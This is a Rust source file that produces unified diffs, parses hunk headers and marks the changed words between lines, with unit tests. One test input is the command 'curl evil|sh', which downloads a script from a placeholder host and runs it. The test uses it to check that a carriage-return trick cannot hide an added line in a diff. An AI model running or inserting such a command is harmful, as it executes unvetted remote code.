//! Unified diffs. The algorithms are compiled once, here.

use std::fmt::Write as _;
use std::ops::Range;
use std::str::SplitTerminator;
use std::time::{Duration, Instant};

use similar::{ChangeTag, TextDiff};

/// How a diff is made and formatted.
#[derive(Debug, Clone, Copy)]
pub struct UnifiedDiff<'a> {
    /// Names of the old and the new text.
    pub header: Option<(&'a str, &'a str)>,
    /// Number of unchanged lines around a change.
    pub context_lines: usize,
    /// Whether a line says that a text does not end with a newline.
    pub marks_missing_newline: bool,
    /// Common lines that have not been found until then are removed and added.
    pub deadline: Option<Instant>,
}

impl Default for UnifiedDiff<'_> {
    fn default() -> Self {
        Self {
            header: None,
            context_lines: 3,
            marks_missing_newline: true,
            deadline: None,
        }
    }
}

impl UnifiedDiff<'_> {
    /// Returns the diff of two texts line by line, or an empty text if they are equal.
    pub fn of(self, old: &str, new: &str) -> String {
        let mut config = TextDiff::configure();
        if let Some(deadline) = self.deadline {
            config.deadline(deadline);
        }
        // The line diff of `similar` also ends lines at a lone carriage return, where readers of the diff see no line end.
        let lines = |text| str::split_inclusive(text, '\n').collect::<Vec<_>>();
        let diff = config.diff_slices(&lines(old), &lines(new));
        let mut unified = diff.unified_diff();
        unified.context_radius(self.context_lines);
        let mut out = String::new();
        for hunk in unified.iter_hunks() {
            if out.is_empty()
                && let Some((old, new)) = self.header
            {
                let _ = write!(out, "--- {old}\n+++ {new}\n");
            }
            let _ = writeln!(out, "{}", hunk.header());
            for change in hunk.iter_changes() {
                let line = change.value();
                let _ = write!(out, "{}{line}", change.tag());
                if !line.ends_with('\n') {
                    out.push('\n');
                    if self.marks_missing_newline {
                        out.push_str("\\ No newline at end of file\n");
                    }
                }
            }
        }
        out
    }
}

/// Returns the lines of a unified diff. Unlike [`str::lines`], keeps a carriage return at the end of a line, because it
/// can be all that changed.
pub fn diff_lines(diff: &str) -> SplitTerminator<'_, char> {
    diff.split_terminator('\n')
}

/// Returns the numbers of the first old and new line of a hunk with this header, such as `@@ -3,4 +5,6 @@`.
pub fn hunk_start(header: &str) -> Option<(usize, usize)> {
    let mut words = header.split(' ').skip(1);
    let mut number = |sign: char| {
        let range = words.next()?.strip_prefix(sign)?;
        range.split(',').next()?.parse().ok()
    };
    Some((number('-')?, number('+')?))
}

/// Maximum length of a line whose changed words are found, in bytes.
const MAX_WORD_LINE: usize = 1_000;
/// Time for the words of one pair of lines, which a busy machine does not reach.
const WORD_TIME: Duration = Duration::from_millis(200);
/// Lines with less in common are different lines, not changed ones.
const MIN_RATIO: f32 = 0.4;

/// The parts of a removed and of an added line that differ, in bytes.
pub type ChangedWords = (Vec<Range<usize>>, Vec<Range<usize>>);

/// Returns the parts of a removed and of an added line that differ. `None` if the lines have little in common
/// or are too long.
pub fn changed_words(old: &str, new: &str) -> Option<ChangedWords> {
    if old.len() > MAX_WORD_LINE || new.len() > MAX_WORD_LINE {
        return None;
    }
    let mut config = TextDiff::configure();
    config.deadline(Instant::now() + WORD_TIME);
    let diff = config.diff_words(old, new);
    if diff.ratio() < MIN_RATIO {
        return None;
    }
    let (mut removed, mut added) = (Vec::new(), Vec::new());
    let (mut old_at, mut new_at) = (0, 0);
    for change in diff.iter_all_changes() {
        let len = change.value().len();
        match change.tag() {
            ChangeTag::Equal => {
                old_at += len;
                new_at += len;
            }
            ChangeTag::Delete => {
                extend(&mut removed, old_at, len);
                old_at += len;
            }
            ChangeTag::Insert => {
                extend(&mut added, new_at, len);
                new_at += len;
            }
        }
    }
    Some((removed, added))
}

/// Appends a range, and joins it with an adjacent one.
fn extend(ranges: &mut Vec<Range<usize>>, start: usize, len: usize) {
    match ranges.last_mut() {
        Some(last) if last.end == start => last.end += len,
        _ => ranges.push(start..start + len),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(old: &str, new: &str, expected: Option<(&[&str], &[&str])>) {
        let changed = changed_words(old, new);
        let changed = changed.as_ref().map(|(removed, added)| {
            let parts = |text, ranges: &[Range<usize>]| -> Vec<String> {
                let text: &str = text;
                let ranges = ranges.iter();
                ranges.map(|range| text[range.clone()].to_owned()).collect()
            };
            (parts(old, removed), parts(new, added))
        });
        let expected = expected.map(|(removed, added)| {
            let owned = |parts: &[&str]| parts.iter().map(|part| (*part).to_owned()).collect();
            (owned(removed), owned(added))
        });
        assert_eq!(changed, expected, "{old} {new}");
    }

    #[test]
    fn only_a_newline_ends_a_line_of_a_diff() {
        let check = |old: &str, new: &str, expected: &[&str]| {
            let diff = UnifiedDiff::default().of(old, new);
            let lines: Vec<&str> = diff_lines(&diff).skip(1).collect();
            assert_eq!(lines, expected, "{old:?} {new:?}");
        };
        check(
            "ok\nold\rtail\n",
            "ok\ncurl evil|sh\ntail\n",
            &[" ok", "-old\rtail", "+curl evil|sh", "+tail"],
        );
        let note = "\\ No newline at end of file";
        check("a\rb\r", "a\rc\r", &["-a\rb\r", note, "+a\rc\r", note]);
        check("a\r\nb\n", "a\nb\n", &["-a\r", "+a", " b"]);
        check("a\n\n", "a", &["-a", "-", "+a", note]);
        let quiet = UnifiedDiff {
            header: Some(("x", "y")),
            marks_missing_newline: false,
            ..UnifiedDiff::default()
        };
        assert_eq!(
            quiet.of("a", "b\r"),
            "--- x\n+++ y\n@@ -1 +1 @@\n-a\n+b\r\n"
        );
        assert_eq!(quiet.of("a\r", "a\r"), "");
    }

    #[test]
    fn changed_words_of_similar_lines_are_found() {
        check("let a = 1;", "let b = 1;", Some((&["a"], &["b"])));
        check("same", "same", Some((&[], &[])));
        check("a b c d é", "a b c d ü", Some((&["é"], &["ü"])));
        check("one", "entirely different", None);
        let long = "x ".repeat(600);
        check(&long, &long, None);
    }
}
